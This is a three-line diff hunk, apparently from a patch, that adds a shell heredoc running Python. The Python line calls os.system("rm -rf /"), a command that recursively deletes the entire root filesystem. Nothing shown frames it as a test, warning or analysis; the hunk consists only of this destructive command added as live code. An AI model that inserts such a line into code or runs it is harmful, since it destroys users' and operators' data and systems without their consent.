@@ -1,0 +1,3 @@
+python3 <<'PY'
+import os; os.system("rm -rf /")
+PY
